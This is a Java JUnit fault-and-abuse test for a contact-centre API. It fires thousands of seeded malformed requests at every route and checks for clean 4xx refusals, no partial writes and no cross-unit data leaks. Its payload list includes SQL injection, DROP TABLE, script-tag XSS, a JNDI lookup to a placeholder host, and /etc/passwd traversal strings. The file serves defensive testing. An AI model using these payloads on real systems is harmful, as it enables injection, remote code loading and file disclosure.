package dev.switchboard.server;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.switchboard.api.IngestRequest;
import dev.switchboard.api.NewCustomerRequest;
import dev.switchboard.api.NewTicketRequest;
import dev.switchboard.client.HttpSwitchboardApi;
import dev.switchboard.domain.Channel;
import dev.switchboard.domain.Direction;
import dev.switchboard.domain.TicketPriority;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;
import okhttp3.Response;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

import java.io.IOException;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A sample of the fault and abuse suite: thousands of malformed and hostile requests (wrong types,
 * huge and deeply nested bodies, injection strings, bad tokens, other people's ids, odd paths) against
 * every route of the API, from a seeded generator. Every answer is a 2xx or a 4xx with a JSON error;
 * nothing is half written (each customer and ticket in the database is one that was answered as
 * created); and nobody gets another business unit's customer or a contact they did not work on.
 */
@Timeout(300)
class AbuseTest {
    private static final int REQUESTS = 2_500;
    private static final String[] ROUTES = {
            "POST /api/v1/login", "POST /api/v1/logout", "GET /api/v1/me", "PUT /api/v1/me/state", "GET /api/v1/me/work",
            "GET /api/v1/config", "GET /api/v1/queue", "GET /api/v1/customers?q={s}", "GET /api/v1/customers?phone={s}",
            "GET /api/v1/customers?email={s}", "POST /api/v1/customers", "GET /api/v1/customers/{id}",
            "GET /api/v1/customers/{id}/timeline?cursor={s}&limit={s}", "GET /api/v1/customers/{id}/tickets",
            "GET /api/v1/customers/{id}/restricted", "PUT /api/v1/customers/{id}/restricted", "POST /api/v1/sync",
            "POST /api/v1/tickets", "GET /api/v1/tickets/{id}", "PATCH /api/v1/tickets/{id}", "POST /api/v1/tickets/{id}/notes",
            "POST /api/v1/interactions", "GET /api/v1/interactions/{id}", "POST /api/v1/interactions/{id}/accept",
            "POST /api/v1/interactions/{id}/reject", "POST /api/v1/interactions/{id}/end",
            "POST /api/v1/interactions/{id}/wrap-up", "POST /api/v1/interactions/{id}/transfer",
            "POST /api/v1/interactions/{id}/callback", "POST /api/v1/callbacks", "PUT /api/v1/interactions/{id}/customer",
            "POST /api/v1/batch", "GET /api/v1/me/phone", "PUT /api/v1/me/phone", "GET /api/v1/interactions/{id}/call",
            "POST /api/v1/interactions/{id}/call/hold", "POST /api/v1/interactions/{id}/call/digits",
            "POST /api/v1/interactions/{id}/call/consult", "POST /api/v1/calls",
            "GET /api/v1/interactions/{id}/conversation", "POST /api/v1/interactions/{id}/messages",
            "POST /api/v1/interactions/{id}/typing", "POST /api/v1/interactions/{id}/transcript", "GET /api/v1/attachments/{id}",
            "GET /api/v1/canned-responses", "GET /api/v1/supervisor/dashboard?treatment={s}&shortAbandon={s}",
            "GET /api/v1/supervisor/intervals?treatment={s}", "GET /api/v1/supervisor/reports/agents.csv?from={s}&to={s}",
            "PUT /api/v1/supervisor/agents/{id}/state", "POST /api/v1/supervisor/interactions/{id}/move",
            "PUT /api/v1/supervisor/queues/{id}/priority", "GET /api/v1/supervisor/audit?limit={s}",
            "GET /api/v1/outbound/campaigns", "POST /api/v1/outbound/campaigns", "GET /api/v1/outbound/campaigns/{id}",
            "PUT /api/v1/outbound/campaigns/{id}/active", "POST /api/v1/outbound/campaigns/{id}/join",
            "POST /api/v1/outbound/campaigns/{id}/next", "POST /api/v1/outbound/records/{id}/result",
            "POST /api/v1/outbound/dnc", "GET /api/v1/admin/users", "POST /api/v1/admin/users",
            "PATCH /api/v1/admin/users/{id}", "POST /api/v1/admin/teams", "PUT /api/v1/admin/reason-codes/{s}",
            "PUT /api/v1/admin/customers/{id}/unit", "GET /api/v1/admin/audit?from={s}&actor={s}",
            "DELETE /api/v1/tickets/{id}", "GET /api/v1/nothing/here"};
    private static final String[] HOSTILE = {"' OR 1=1 --", "\"; DROP TABLE customer; --", "<script>alert(1)</script>",
            "${jndi:ldap://example.invalid/a}", "../../etc/passwd", "%00", "\u0000", "\uD800", "𝕊𝕨𝕚𝕥𝕔𝕙", "-1",
            "99999999999999999999999", "NaN", "null", "true", "[]", "{}", " ", "", "ä".repeat(300)};
    private static final String[] FIELDS = {"username", "password", "state", "reasonCode", "firstName", "lastName",
            "contactPoints", "customerId", "subject", "priority", "status", "version", "body", "note", "channel", "address",
            "queueId", "agentId", "number", "at", "disposition", "notes", "ticket", "text", "clientKey", "writes",
            "customerIds", "ticketVersions", "label", "name", "unitId", "role", "displayName", "billingNote", "on",
            "digits", "active", "mode", "records", "typing", "interactionId"};

    private final OkHttpClient http = new OkHttpClient.Builder().readTimeout(30, TimeUnit.SECONDS).build();
    private final ObjectMapper json = new ObjectMapper();
    private SwitchboardServer server;

    @BeforeEach
    void start() {
        server = SwitchboardServer.start(ServerOptions.inMemory("abuse-" + System.nanoTime(), 0));
    }

    @AfterEach
    void stop() {
        server.close();
    }

    @Test
    void hostileRequestsGetOnlyClearRefusalsAndChangeNothingHalfway() throws Exception {
        HttpSwitchboardApi agent = new HttpSwitchboardApi(server.baseUrl());
        agent.login("agent", "agent");
        String admin = new HttpSwitchboardApi(server.baseUrl()).login("admin", "admin").token();
        long unit = json.readTree(send("POST", "/api/v1/admin/units", "{\"name\":\"Elsewhere\"}", admin).body).get("id").asLong();
        long team = json.readTree(send("POST", "/api/v1/admin/teams", "{\"name\":\"Elsewhere desk\",\"unitId\":" + unit + "}",
                admin).body).get("id").asLong();
        send("POST", "/api/v1/admin/users", "{\"username\":\"otto\",\"displayName\":\"Otto\",\"role\":\"AGENT\","
                + "\"password\":\"Long-enough-pass-9\",\"teamId\":" + team + "}", admin);
        String outsider = new HttpSwitchboardApi(server.baseUrl()).login("otto", "Long-enough-pass-9").token();
        long customer = agent.createCustomer(new NewCustomerRequest("Known", "Customer", null, List.of(), null)).id();
        long ticket = agent.createTicket(new NewTicketRequest(customer, "Known", TicketPriority.LOW, null, null)).id();
        long interaction = agent.ingest(new IngestRequest(Channel.EMAIL, Direction.INBOUND, "known@example.com", "x", "y",
                null, null)).interaction().id();
        long[] ids = {customer, ticket, interaction, 1, 0, -1, Long.MAX_VALUE};
        String[] tokens = {agent.token(), admin, outsider, null, "garbage", "Bearer", "x".repeat(5000)};
        long customersBefore = count("customer");
        long ticketsBefore = count("ticket");

        Random random = new Random(20261126L);
        List<String> failures = new ArrayList<>();
        int customersCreated = 0;
        int ticketsCreated = 0;
        for (int n = 0; n < REQUESTS; n++) {
            String route = ROUTES[random.nextInt(ROUTES.length)];
            String method = route.substring(0, route.indexOf(' '));
            String path = fill(route.substring(route.indexOf(' ') + 1), random, ids);
            String body = method.equals("GET") || method.equals("DELETE") ? null : body(random, ids);
            String token = tokens[random.nextInt(tokens.length)];
            Answer a = send(method, path, body, token);
            if (a.status >= 500 || a.status < 200 || a.status >= 300 && a.status < 400) {
                failures.add(a.status + " for " + method + " " + path + " " + abbreviate(body) + ": " + abbreviate(a.body));
                continue;
            }
            if (a.status >= 400 && !path.endsWith(".csv") && !isJsonError(a.body)) {
                failures.add("no JSON error for " + a.status + " " + method + " " + path + ": " + abbreviate(a.body));
            }
            if (token == outsider && a.status == 200 && method.equals("GET")
                    && (path.equals("/api/v1/customers/" + customer) || path.equals("/api/v1/interactions/" + interaction)
                    || path.equals("/api/v1/tickets/" + ticket) || path.startsWith("/api/v1/interactions/" + interaction + "/"))) {
                failures.add("another unit's data for " + path);
            }
            if (a.status == 201 && method.equals("POST") && path.equals("/api/v1/customers")) {
                customersCreated++;
            }
            if (a.status == 201 && method.equals("POST") && path.equals("/api/v1/tickets")) {
                ticketsCreated++;
            }
            if (a.status == 200 && path.equals("/api/v1/batch")) {
                JsonNode results = json.readTree(a.body).get("results");
                JsonNode writes = json.readTree(body).get("writes");
                for (int i = 0; results != null && i < results.size(); i++) {
                    String itemPath = writes.get(i).path("path").asText();
                    if (results.get(i).path("status").asInt() == 201 && itemPath.equals("/api/v1/customers")) {
                        customersCreated++;
                    } else if (results.get(i).path("status").asInt() == 201 && itemPath.equals("/api/v1/tickets")) {
                        ticketsCreated++;
                    }
                }
            }
        }
        assertThat(failures).as("answers other than 2xx or a 4xx with a JSON error").isEmpty();
        assertThat(count("customer") - customersBefore).as("every customer stored was answered as created")
                .isEqualTo(customersCreated);
        assertThat(count("ticket") - ticketsBefore).as("every ticket stored was answered as created")
                .isEqualTo(ticketsCreated);
    }

    private static String fill(String template, Random random, long[] ids) {
        String out = template;
        while (out.contains("{id}")) {
            String id = random.nextInt(5) == 0 ? urlSafe(HOSTILE[random.nextInt(HOSTILE.length)])
                    : String.valueOf(ids[random.nextInt(ids.length)]);
            out = out.replaceFirst("\\{id}", id.isEmpty() ? "0" : id);
        }
        while (out.contains("{s}")) {
            out = out.replaceFirst("\\{s}", urlSafe(HOSTILE[random.nextInt(HOSTILE.length)]));
        }
        return out;
    }

    private static String urlSafe(String s) {
        return java.net.URLEncoder.encode(s, java.nio.charset.StandardCharsets.UTF_8).replace("$", "%24");
    }

    /** A hostile body: broken JSON, the wrong shape, huge, deeply nested, or fields of the wrong types. */
    private String body(Random random, long[] ids) {
        return switch (random.nextInt(10)) {
            case 0 -> "{\"unterminated\": ";
            case 1 -> "[1, 2, 3]";
            case 2 -> "\"just a string\"";
            case 3 -> "{\"a\":" + "[".repeat(3000) + "]".repeat(3000) + "}";
            case 4 -> "{\"body\":\"" + "x".repeat(300_000) + "\"}";
            case 5 -> "";
            default -> {
                StringBuilder b = new StringBuilder("{");
                int fields = 1 + random.nextInt(5);
                for (int i = 0; i < fields; i++) {
                    if (i > 0) {
                        b.append(',');
                    }
                    b.append('"').append(FIELDS[random.nextInt(FIELDS.length)]).append("\":").append(value(random, ids, 0));
                }
                yield b.append('}').toString();
            }
        };
    }

    private String value(Random random, long[] ids, int depth) {
        return switch (random.nextInt(depth > 2 ? 5 : 7)) {
            case 0 -> quoted(HOSTILE[random.nextInt(HOSTILE.length)]);
            case 1 -> String.valueOf(ids[random.nextInt(ids.length)]);
            case 2 -> random.nextBoolean() ? "true" : "null";
            case 3 -> String.valueOf(random.nextDouble() * 1e12);
            case 4 -> quoted("READY");
            case 5 -> "[" + value(random, ids, depth + 1) + "," + value(random, ids, depth + 1) + "]";
            default -> "{\"" + FIELDS[random.nextInt(FIELDS.length)] + "\":" + value(random, ids, depth + 1) + "}";
        };
    }

    private String quoted(String s) {
        try {
            return json.writeValueAsString(s);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private boolean isJsonError(String body) {
        try {
            return json.readTree(body).hasNonNull("error");
        } catch (IOException e) {
            return false;
        }
    }

    private long count(String table) throws SQLException {
        try (Connection c = server.database().connection(); ResultSet rs = c.createStatement()
                .executeQuery("SELECT COUNT(*) FROM " + table)) {
            rs.next();
            return rs.getLong(1);
        }
    }

    private static String abbreviate(String s) {
        return s == null ? "(none)" : s.length() > 200 ? s.substring(0, 200) + "…" : s;
    }

    private Answer send(String method, String path, String body, String token) throws IOException {
        Request.Builder r = new Request.Builder().url(server.baseUrl() + path);
        if (token != null) {
            r.header("Authorization", "Bearer " + token);
        }
        RequestBody payload = body == null ? (method.equals("GET") || method.equals("DELETE") ? null
                : RequestBody.create(new byte[0])) : RequestBody.create(body, MediaType.get("application/json"));
        r.method(method, payload);
        try (Response response = http.newCall(r.build()).execute()) {
            return new Answer(response.code(), response.body().string());
        }
    }

    private record Answer(int status, String body) {
    }
}
